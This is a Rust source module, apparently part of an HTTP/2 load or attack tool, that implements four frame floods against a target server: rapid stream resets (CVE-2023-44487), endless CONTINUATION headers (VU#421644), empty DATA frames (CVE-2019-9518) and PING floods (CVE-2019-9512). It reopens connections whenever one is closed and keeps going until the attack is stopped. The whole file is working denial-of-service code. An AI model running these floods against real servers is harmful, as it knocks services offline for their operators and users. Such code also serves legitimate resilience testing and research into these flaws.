//! Floods of frames on connections that a valid certificate opens. Each goes on until it is over, on a new connection when one is
//! closed.

use std::future::Future;

use super::Target;
use super::wire::{
    CONTINUATION, DATA, END_HEADERS, HEADERS, PING, RST_STREAM, Raw, call_headers, frame,
};

/// Calls that are reset as soon as they are made (CVE-2023-44487).
pub async fn resets(target: Target) {
    on_connections(&target, async |raw: &mut Raw, turn: u32| {
        let mut bytes = Vec::new();
        for number in 0..100 {
            let stream = 1 + 2 * (100 * turn + number);
            bytes.extend(frame(HEADERS, END_HEADERS, stream, &call_headers()));
            bytes.extend(frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]));
        }
        raw.send(&bytes).await
    })
    .await;
}

/// Headers that never end (VU#421644).
pub async fn continuations(target: Target) {
    on_connections(&target, async |raw: &mut Raw, turn: u32| {
        if turn == 0 {
            raw.send(&frame(HEADERS, 0, 1, &call_headers())).await?;
        }
        let mut bytes = Vec::new();
        for _ in 0..100 {
            let mut block = Vec::new();
            super::wire::header(&mut block, "x-more", &"y".repeat(100));
            bytes.extend(frame(CONTINUATION, 0, 1, &block));
        }
        raw.send(&bytes).await
    })
    .await;
}

/// A call whose body is nothing, again and again (CVE-2019-9518).
pub async fn empty_data(target: Target) {
    on_connections(&target, async |raw: &mut Raw, turn: u32| {
        if turn == 0 {
            raw.send(&frame(HEADERS, END_HEADERS, 1, &call_headers()))
                .await?;
        }
        raw.send(&frame(DATA, 0, 1, &[]).repeat(100)).await
    })
    .await;
}

/// Nothing but pings (CVE-2019-9512).
pub async fn pings(target: Target) {
    on_connections(&target, async |raw: &mut Raw, _: u32| {
        raw.send(&frame(PING, 0, 0, b"hostile!").repeat(100)).await
    })
    .await;
}

/// Goes on with a flood, a hundred frames a turn, on a new connection whenever one is closed.
async fn on_connections(
    target: &Target,
    flood: impl AsyncFn(&mut Raw, u32) -> std::io::Result<()>,
) {
    while !target.is_over() {
        let Ok(mut raw) = Raw::open(target).await else {
            target.is_refused();
            tokio::task::yield_now().await;
            continue;
        };
        let flooding = async {
            for turn in 0.. {
                if flood(&mut raw, turn).await.is_err() || raw.heard.goaway().is_some() {
                    target.is_refused();
                    return;
                }
                target.does();
                tokio::task::yield_now().await;
            }
        };
        while_it_lasts(target, flooding).await;
    }
}

/// Does something until it ends or the attack is over.
pub async fn while_it_lasts(target: &Target, work: impl Future<Output = ()>) {
    tokio::select! {
        () = work => {}
        () = target.stop.cancelled() => {}
    }
}
